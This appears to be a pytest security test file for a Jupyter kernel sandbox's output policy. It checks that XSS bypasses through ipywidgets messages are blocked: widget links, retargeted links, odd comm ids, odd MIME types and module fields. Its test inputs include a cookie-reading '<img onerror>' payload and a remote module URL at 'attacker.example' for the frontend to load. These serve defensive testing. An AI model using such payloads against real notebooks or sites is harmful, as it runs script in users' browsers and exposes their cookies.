"""Bypasses of the strict output policy, tried on the policy itself with real ipywidgets messages.

The messages come from a real local ipykernel (``local_kernel``) or are written as a hostile
kernel would write them. Each test states what a browser would do with what passes; the browser
tests (test_policy_browser.py) show the same in JupyterLab.
"""

from __future__ import annotations

import copy

import pytest

from kernel_sandbox.policy.output import OutputPolicy

from support.policy_checks import html_problems, untouched

pytestmark = [pytest.mark.timeout(180)]

HANDLER = '<img src=x onerror="alert(document.cookie)">'


def through(policy: OutputPolicy, messages: list[dict]) -> list[tuple[str, dict | None]]:
    """Each message's (msg_type, content as the client sees it); None for a dropped message."""
    out = []
    for msg in messages:
        msg_type = msg["header"]["msg_type"]
        content = copy.deepcopy(msg["content"])
        out.append((msg_type, policy.filter(msg_type, content) if policy.inspects(msg_type) else content))
    return out


def _links(seen: list[tuple[str, dict | None]], messages: list[dict]) -> list[dict]:
    """What the client sees of the kernel's link widgets (by the kernel's own comm_open)."""
    return [c for (t, c), m in zip(seen, messages)
            if t == "comm_open" and "Link" in str(m["content"]["data"]["state"].get("_model_name")) and c is not None]


def _refused(content: dict) -> bool:
    return "widget refused" in str(content["data"]["state"].get("value", ""))


LINKS = {
    # The frontend copies the Text widget's value (never HTML-checked) into the HTML widget's value.
    "jsdlink text into html": (
        f"t = w.Text(value={HANDLER!r})\nh = w.HTML('<b>ok</b>')\nw.jsdlink((t, 'value'), (h, 'value'))"
    ),
    "jslink html both ways": f"t = w.Textarea(value={HANDLER!r})\nh = w.HTML('<b>ok</b>')\nw.jslink((h, 'value'), (t, 'value'))",
    "jslink into htmlmath": f"t = w.Text(value={HANDLER!r})\nh = w.HTMLMath('x')\nw.jslink((t, 'value'), (h, 'value'))",
    "jsdlink into an output widget": (
        "o1 = w.Output()\no2 = w.Output()\nw.jsdlink((o1, 'outputs'), (o2, 'outputs'))"
    ),
    "jsdlink turning on html descriptions": (
        f"s = w.IntSlider(description={HANDLER!r})\nc = w.Checkbox(value=True)\n"
        "w.jsdlink((c, 'value'), (s, 'description_allow_html'))"
    ),
}


@pytest.mark.security("attack", "policy")
@pytest.mark.parametrize("code", list(LINKS.values()), ids=list(LINKS))
def test_frontend_links_cannot_carry_unchecked_text_into_html(local_kernel, code) -> None:
    """A widget link (jslink/jsdlink) runs in the browser: it may not write into a field the policy checks."""
    run = local_kernel.run("import ipywidgets as w\n" + code)
    seen = through(OutputPolicy(), run.iopub)
    [link] = _links(seen, run.iopub)
    assert _refused(link), (
        "the strict policy passed a widget link whose browser-side copy writes "
        "unchecked text into a checked field (an HTML widget's value, an Output's outputs, a description's HTML "
        "switch): in JupyterLab its <img onerror> runs"
    )


@pytest.mark.security("attack", "policy")
def test_a_link_cannot_be_turned_onto_a_checked_field_later(local_kernel) -> None:
    """A harmless link whose target is later changed to an HTML widget's value."""
    run = local_kernel.run(
        "import ipywidgets as w\n"
        f"t = w.Text(value={HANDLER!r})\nu = w.Text()\nh = w.HTML('<b>ok</b>')\n"
        "l = w.jsdlink((t, 'value'), (u, 'value'))\nl.target = (h, 'value')"
    )
    seen = through(OutputPolicy(), run.iopub)
    [link] = _links(seen, run.iopub)
    assert not _refused(link), "a link between two text fields is harmless and must pass"
    link_id = link["comm_id"]
    retargets = [c for t, c in [(m["header"]["msg_type"], m["content"]) for m in run.iopub]
                 if t == "comm_msg" and c["comm_id"] == link_id and "target" in c["data"].get("state", {})]
    assert retargets, "ipywidgets sent no update of the link's target"
    shown = [c for (t, c), m in zip(seen, run.iopub) if t == "comm_msg" and m["content"]["comm_id"] == link_id]
    assert all(c is None or "target" not in c["data"].get("state", {}) for c in shown), (
        "the update that points the link at the HTML widget's value reached the browser"
    )


@pytest.mark.security("attack", "policy")
def test_links_between_plain_fields_still_work(local_kernel) -> None:
    """A slider linked to a number box (what people use links for) passes untouched."""
    run = local_kernel.run("import ipywidgets as w\ns = w.IntSlider()\nn = w.IntText()\nw.jslink((s, 'value'), (n, 'value'))")
    seen = through(OutputPolicy(), run.iopub)
    [link] = _links(seen, run.iopub)
    assert not _refused(link)
    assert all(untouched(c, m["content"]) for (t, c), m in zip(seen, run.iopub))  # (displays: but for the frame mark)


def _comm_open(state: dict, comm_id: object = "c1", **extra: object) -> dict:
    return {"comm_id": comm_id, "target_name": "jupyter.widget", "data": {"state": state, "buffer_paths": []}, **extra}


HTML_STATE = {
    "_model_module": "@jupyter-widgets/controls", "_model_module_version": "2.0.0", "_model_name": "HTMLModel",
    "_view_module": "@jupyter-widgets/controls", "_view_module_version": "2.0.0", "_view_name": "HTMLView",
    "value": HANDLER,
}


@pytest.mark.security("attack", "policy")
@pytest.mark.parametrize("comm_id", [4242, 4.5, None, ["c1"], {"id": 1}])
def test_a_widget_with_a_comm_id_that_is_not_text_is_not_passed_unchecked(comm_id) -> None:
    """comm_open with a non-string comm id: JupyterLab rejects it, other frontends may not; the policy must not pass it as is."""
    content = _comm_open(dict(HTML_STATE), comm_id)
    out = OutputPolicy().filter("comm_open", copy.deepcopy(content))
    assert out is None or html_problems(str(out["data"]["state"].get("value", ""))) == [], out


@pytest.mark.security("attack", "policy")
def test_a_comm_cannot_name_a_module_for_the_frontend_to_load() -> None:
    """comm_open's target_module: frontends with require.js (classic Notebook) load and run that module."""
    content = {"comm_id": "c9", "target_name": "anything", "target_module": "https://attacker.example/x.js", "data": {}}
    out = OutputPolicy().filter("comm_open", copy.deepcopy(content))
    assert out is None or not out.get("target_module"), out


@pytest.mark.security("attack", "policy")
@pytest.mark.parametrize("version", ["2.0.0/../../evil@1.0.0", "https://attacker.example/x.js", "2.0.0?x", "^2.0.0 || evil"])
def test_widget_module_versions_are_versions(version) -> None:
    """An allowed widget module with a version that is a path or URL (frontends that fetch modules build URLs from it)."""
    state = {**HTML_STATE, "value": "<b>ok</b>", "_model_module_version": version, "_view_module_version": version}
    out = OutputPolicy().filter("comm_open", _comm_open(state))
    assert out is not None and _refused(out), out


@pytest.mark.security("attack", "policy")
@pytest.mark.parametrize("mime", ["text/html; charset=utf-8", "TEXT/HTML", "text/html ", "Application/JavaScript",
                                  "application/javascript;x=1", "text/markdown; variant=gfm", "image/svg+xml; charset=utf-8",
                                  "application/vnd.jupyter.widget-view+json; x=1", "text/x-html"])
def test_mime_types_with_parameters_or_other_case_are_not_rendered(mime) -> None:
    """MIME keys with parameters, other case or spaces: never passed as they are (a renderer could match them loosely)."""
    data, _ = OutputPolicy().filter_bundle({mime: HANDLER, "text/plain": "x"})
    assert mime not in data, data


@pytest.mark.security("attack", "policy")
def test_a_description_switched_to_html_in_a_later_update_is_cleaned() -> None:
    """The description arrives as text, HTML is turned on in a second update: the text is cleaned then."""
    policy = OutputPolicy()
    state = {"_model_module": "@jupyter-widgets/controls", "_model_name": "IntSliderModel",
             "_view_module": "@jupyter-widgets/controls", "_view_name": "IntSliderView", "description": HANDLER}
    policy.filter("comm_open", _comm_open(state, "s1"))
    out = policy.filter("comm_msg", {"comm_id": "s1", "data": {"method": "update", "state": {"description_allow_html": True}}})
    assert out is not None and html_problems(out["data"]["state"].get("description", "")) == [], out


@pytest.mark.security("attack", "policy")
@pytest.mark.parametrize("backend", ["docker", "opensandbox"])
def test_the_launcher_applies_the_strict_policy_to_every_kernel(backend) -> None:
    """The policy the launcher's front uses for a kernel with default settings: it must drop JavaScript."""
    from kernel_sandbox.launch import output_policy
    from kernel_sandbox.policy.output import OutputPolicy

    if backend == "docker":
        from kernel_sandbox.docker.settings import DockerSettings as settings_class
    else:
        from kernel_sandbox.opensandbox.settings import OpenSandboxSettings as settings_class
    policy = output_policy(settings_class.from_config({}))
    assert isinstance(policy, OutputPolicy) and policy.inspects("display_data"), policy
    content = {"data": {"application/javascript": "alert(document.cookie)", "text/html": HANDLER}, "metadata": {}}
    shown = policy.filter("display_data", content)
    assert shown is None or "application/javascript" not in shown["data"], (
        f"the launcher's policy {policy!r} passes JavaScript to the client"
    )
